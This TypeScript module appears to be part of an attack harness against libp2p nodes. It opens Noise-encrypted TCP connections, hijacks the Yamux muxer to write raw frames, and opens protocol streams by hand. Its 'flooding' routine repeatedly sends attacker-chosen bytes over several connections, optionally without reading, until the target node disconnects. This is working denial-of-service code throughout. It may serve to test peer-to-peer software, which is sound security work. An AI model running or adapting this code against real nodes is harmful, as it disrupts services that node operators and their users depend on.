/** An encrypted connection on which the attacker writes Yamux frames itself, and reads or does not. */
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { setImmediate as turn } from 'node:timers/promises'
import { noise } from '@chainsafe/libp2p-noise'
import { tcp } from '@libp2p/tcp'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import type { Connection, Libp2p, MessageStream, PrivateKey, StreamMuxer, StreamMuxerFactory } from '@libp2p/interface'
import { again, attacking, many, ownAddress, pause, type Target } from './target.js'

export const FRAME = { data: 0, window: 1, ping: 2, goAway: 3 }
export const FLAG = { syn: 1, ack: 2, fin: 4, rst: 8 }

/** 12 bytes. */
export function header (type: number, flag: number, stream: number, length: number): Uint8Array {
  const bytes = Buffer.alloc(12)
  bytes[1] = type
  bytes.writeUInt16BE(flag, 2)
  bytes.writeUInt32BE(stream, 4)
  bytes.writeUInt32BE(length, 8)
  return bytes
}

/** A whole data frame. */
export function data (stream: number, bytes: Uint8Array, flag = 0): Uint8Array {
  return Buffer.concat([header(FRAME.data, flag, stream, bytes.length), bytes])
}

/** The words with which multistream-select asks for a protocol. */
export function select (protocol: string): Uint8Array {
  const word = (text: string): Buffer => Buffer.concat([Buffer.from([text.length + 1]), Buffer.from(`${text}\n`)])
  return Buffer.concat([word('/multistream/1.0.0'), word(protocol)])
}

/** A frame with the unsigned varint of its length. */
export function framed (message: Uint8Array): Uint8Array {
  const length: number[] = []
  for (let rest = message.length; ; rest = Math.floor(rest / 128)) {
    length.push(rest < 128 ? rest : (rest & 0x7f) | 0x80)
    if (rest < 128) return Buffer.concat([Uint8Array.from(length), message])
  }
}

/** Takes the place of a muxer, and hands the encrypted connection out. */
class Capture extends EventTarget {
  readonly protocol = '/yamux/1.0.0'
  readonly streams = []
  readonly status = 'open'
  async createStream (): Promise<never> { throw new Error('the attacker opens its streams itself') }
  async close (): Promise<void> {}
  abort (): void {}
}

export class Wire {
  constructor (readonly host: Libp2p, readonly connection: Connection, readonly stream: MessageStream) {
    // what comes is dropped unless somebody listens
    stream.addEventListener('message', () => {})
  }

  get open (): boolean { return this.connection.status === 'open' && this.stream.status === 'open' }

  /** Sends as fast as the other side takes it; resolves at once when it does. */
  async send (bytes: Uint8Array): Promise<void> {
    if (!this.open) throw new Error('the node hung up')
    if (!this.stream.send(bytes)) await Promise.race([once(this.stream, 'drain'), once(this.stream, 'close')])
  }

  /** From now on the attacker's machine takes no byte off the wire. */
  stopReading (): void { this.stream.pause() }

  async closed (): Promise<void> {
    if (this.connection.status === 'open') await new Promise<unknown>((resolve) => { this.connection.addEventListener('close', resolve, { once: true }) })
  }
}

export interface WireInit {
  privateKey?: PrivateKey
  /** @default one of the attacker's own */
  from?: string
}

/** Options of the TCP transport. */
export function from (localAddress: string): NonNullable<Parameters<typeof tcp>[0]> {
  return { dialOpts: { localAddress } as never }
}

/** Dials the node with a PeerId of its own, which it has proved when this resolves. */
export async function wire ({ address }: Target, signal: AbortSignal, init: WireInit = {}): Promise<Wire> {
  const captured = Promise.withResolvers<MessageStream>()
  const muxer: StreamMuxerFactory = {
    protocol: '/yamux/1.0.0',
    createStreamMuxer: (stream) => {
      captured.resolve(stream)
      return new Capture() as unknown as StreamMuxer
    }
  }
  const host = await createLibp2p({
    ...(init.privateKey === undefined ? {} : { privateKey: init.privateKey }),
    transports: [tcp(from(init.from ?? ownAddress()))],
    connectionEncrypters: [noise()],
    streamMuxers: [() => muxer],
    connectionManager: { reconnectRetries: 0 },
    connectionMonitor: { enabled: false }
  })
  signal.addEventListener('abort', () => { void host.stop() }, { once: true })
  try {
    const connection = await host.dial(multiaddr(address), { signal })
    const on = new Wire(host, connection, await captured.promise)
    attacking()
    return on
  } catch (error) {
    await host.stop()
    throw error
  }
}

/** A stream that asked for `protocol`; its number is odd, as those of whoever dialled are. */
export async function openStream (on: Wire, stream: number, protocol: string): Promise<void> {
  await on.send(Buffer.concat([header(FRAME.window, FLAG.syn, stream, 0), data(stream, select(protocol))]))
}

export const noise1MiB = randomBytes(1024 ** 2)


/** Proved connections, again and again, each of which sends `bytes(n)` for n from 0 on until the node hangs up. */
export async function flooding (target: Target, signal: AbortSignal, bytes: (n: number) => Uint8Array, { count = 4, reads = true, ms = 0, first, ...init }: WireInit & { count?: number, reads?: boolean, ms?: number, first?: (on: Wire) => Promise<void> } = {}): Promise<void> {
  await many(count, async () => again(signal, async () => {
    const on = await wire(target, signal, init)
    await first?.(on)
    if (!reads) on.stopReading()
    try {
      for (let n = 0; on.open && !signal.aborted; n++) {
        await on.send(bytes(n))
        await (ms > 0 ? pause(ms, signal) : turn())
      }
    } finally {
      await on.host.stop()
    }
  }))
}

/** Streams numbered as whoever dialled does, `each` a piece. */
export function streams (n: number, each: number, one: (stream: number) => Uint8Array): Uint8Array {
  return Buffer.concat(Array.from({ length: each }, (_, index) => one(2 * (n * each + index) + 1)))
}

/** Opens a stream and asks for a protocol, in one piece; `rest` follows at once. */
export function opening (stream: number, protocol: string, ...rest: Uint8Array[]): Uint8Array {
  return Buffer.concat([header(FRAME.window, FLAG.syn, stream, 0), data(stream, Buffer.concat([select(protocol), ...rest]))])
}
